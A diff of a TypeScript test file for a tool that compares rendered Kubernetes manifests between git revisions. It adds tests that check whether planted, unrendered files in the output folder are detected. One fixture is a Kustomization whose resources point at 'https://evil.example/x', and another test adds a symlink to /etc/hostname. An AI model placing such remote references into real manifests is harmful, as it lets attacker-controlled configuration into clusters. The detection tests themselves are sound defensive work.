@@ -2,6 +2,7 @@ import { execFileSync, type SpawnSyncReturns, spawnSync } from 'node:child_proce
 import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { writeFiles } from '../../lib/app/dist-folder';
+import { HEADER } from '../../lib/app/render';
 import type { SourceFile } from '../../lib/cluster/manifest';
 import { withFolder } from '../app/temporary-folder';
 import { BASE, edited } from '../diff/revisions';
@@ -50,6 +51,8 @@ function diff(folder: string, ...args: readonly string[]): SpawnSyncReturns<stri
 }
 
 const POOL = 'nodepool-gitlab-jobs-amd64-spot.yaml';
+/** The same as files that people wrote: without the line that says that they were rendered. */
+const MANIFESTS = BASE.map(({ path, text }) => ({ path, text: text.replace(HEADER, '') }));
 const LOWERED = edited(BASE, POOL, 'cpu: "104"', 'cpu: "10"');
 
 test('the working tree is compared with where the branch left main, whatever main did since', () => {
@@ -195,8 +198,7 @@ describe('bad input is a sentence and an exit code of 2:', () => {
   test('a file that is no YAML, with its line', () => {
     withRepository((repository) => {
       const file = join(repository, 'dist/production/karpenter/broken.yaml');
-      mkdirSync(dirname(file), { recursive: true });
-      writeFileSync(file, 'a: [\n');
+      writeFileSync(file, `${HEADER}a: [\n`);
       expect(diff(repository)).toMatchObject({
         status: 2,
         stderr: expect.stringMatching(/broken.yaml:\d+: no YAML/),
@@ -312,7 +314,7 @@ test('the folder of one cluster is compared as one, with all that its nodes carr
 test('what can not be read of the base is said, and does not stop the change that mends it', () => {
   withRepository((repository) => {
     git(repository, 'checkout', '--quiet', 'main');
-    commit(repository, [...BASE, { path: 'production/broken.yaml', text: 'a: [\n' }]);
+    commit(repository, [...BASE, { path: 'production/broken.yaml', text: `${HEADER}a: [\n` }]);
     git(repository, 'checkout', '--quiet', 'change');
     const { status, stdout, stderr } = diff(repository, 'main');
     expect([status, stdout.trim()]).toEqual([0, 'production: no object changes']);
@@ -324,6 +326,9 @@ test('what can not be read of the base is said, and does not stop the change tha
 
 test('a link to a file is read as that file, in a commit too', () => {
   withRepository((repository) => {
+    git(repository, 'checkout', '--quiet', 'main');
+    commit(repository, MANIFESTS);
+    git(repository, 'checkout', '--quiet', '-B', 'change');
     const link = (path: string) => join(repository, 'dist', 'production', 'runners', path);
     symlinkSync('namespace-gitlab-jobs.yaml', link('linked.yaml'));
     renameSync(link('linked.yaml'), link('poddisruptionbudget-managers.yaml'));
@@ -336,7 +341,7 @@ test('a link to a file is read as that file, in a commit too', () => {
     git(repository, 'add', '--all');
     git(repository, 'commit', '--quiet', '--message', 'a dangling link');
     expect(diff(repository, 'HEAD', 'HEAD').stderr).toMatch(
-      /dangling.yaml is a link to nowhere.yaml, which is no file at/,
+      /dangling.yaml is a link to nowhere.yaml, which is not a file at/,
     );
   });
 });
@@ -349,5 +354,96 @@ test('several clusters are compared each with itself', () => {
     expect(stdout).toContain('production: 1 object changed');
     expect(stdout).toContain('staging: 36 objects added');
     expect(readFileSync(join(repository, 'dist/staging/karpenter', POOL), 'utf8')).toContain('NodePool');
+  });
+});
+
+describe('a file below the rendered folder that was not rendered', () => {
+  const KUSTOMIZATION =
+    'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [https://evil.example/x]\n';
+
+  function plant(repository: string, path: string, text = KUSTOMIZATION): void {
+    mkdirSync(dirname(join(repository, path)), { recursive: true });
+    writeFileSync(join(repository, path), text);
+  }
+
+  test.each([
+    'dist/production/runners/Kustomization',
+    'dist/production/karpenter/kustomization.yaml',
+    'dist/production/runners/.sourceignore',
+    'dist/production/.argocd-source.yaml',
+    'dist/production/.krmignore',
+    'dist/extra/app.jsonnet',
+    'dist/Chart.yaml',
+    'dist/production/.gitattributes',
+  ])('%s stands first in every format, and the exit code is 2', (path) => {
+    withRepository((repository) => {
+      plant(repository, path);
+      for (const [format, shown] of [
+        ['text', `  added: ${path}`],
+        ['markdown', `- added: \`${path}\``],
+      ]) {
+        const { status, stdout, stderr } = diff(repository, '--format', format);
+        expect([status, stderr]).toEqual([2, expect.stringContaining(`  ${path}\n`)]);
+        expect(stdout.indexOf(shown)).toBeGreaterThan(0);
+        expect(stdout.indexOf(shown)).toBeLessThan(stdout.indexOf('production: no object changes'));
+      }
+      const json = JSON.parse(diff(repository, '--format', 'json').stdout);
+      expect(json.foreign).toEqual([{ file: path, is: 'added', where: 'below' }]);
+    });
+  });
+
+  test('is seen between two commits too, as one that changes, and as a link or a submodule', () => {
+    withRepository((repository) => {
+      plant(repository, 'dist/Kustomization');
+      git(repository, 'add', '--all');
+      git(repository, 'commit', '--quiet', '--message', 'planted');
+      plant(repository, 'dist/Kustomization', 'other');
+      symlinkSync('/etc/hostname', join(repository, 'dist/production/linked'));
+      git(repository, 'add', '--all');
+      const head = git(repository, 'rev-parse', 'HEAD').trim();
+      git(repository, 'update-index', '--add', '--cacheinfo', `160000,${head},dist/module`);
+      git(repository, 'commit', '--quiet', '--message', 'changed');
+      const { status, stdout } = diff(repository, 'HEAD~1', 'HEAD');
+      expect(status).toBe(2);
+      for (const line of [
+        'changed: dist/Kustomization',
+        'added: dist/production/linked',
+        'added: dist/module',
+      ])
+        expect(stdout).toContain(line);
+    });
+  });
+
+  test('is seen where a change takes the first line from every rendered file', () => {
+    withRepository((repository) => {
+      write(repository, MANIFESTS);
+      plant(repository, 'dist/production/runners/Kustomization');
+      const { status, stdout } = diff(repository);
+      expect([status, stdout]).toEqual([
+        2,
+        expect.stringContaining('added: dist/production/runners/Kustomization'),
+      ]);
+    });
+  });
+
+  test('does not stop the change that removes it', () => {
+    withRepository((repository) => {
+      plant(repository, 'dist/Kustomization');
+      git(repository, 'add', '--all');
+      git(repository, 'commit', '--quiet', '--message', 'planted');
+      rmSync(join(repository, 'dist/Kustomization'));
+      const { status, stdout } = diff(repository, 'HEAD');
+      expect([status, stdout]).toEqual([0, expect.stringContaining('removed: dist/Kustomization')]);
+    });
+  });
+
+  test('a README.md is harmless, and a .sourceignore above the folder is shown', () => {
+    withRepository((repository) => {
+      plant(repository, 'dist/README.md', 'Rendered.\n');
+      expect(diff(repository)).toMatchObject({ status: 0, stdout: 'production: no object changes\n' });
+      plant(repository, '.sourceignore', 'networkpolicy-*\n');
+      const { status, stdout } = diff(repository);
+      expect([status, stdout]).toEqual([0, expect.stringContaining('added: .sourceignore')]);
+    });
   });
 });
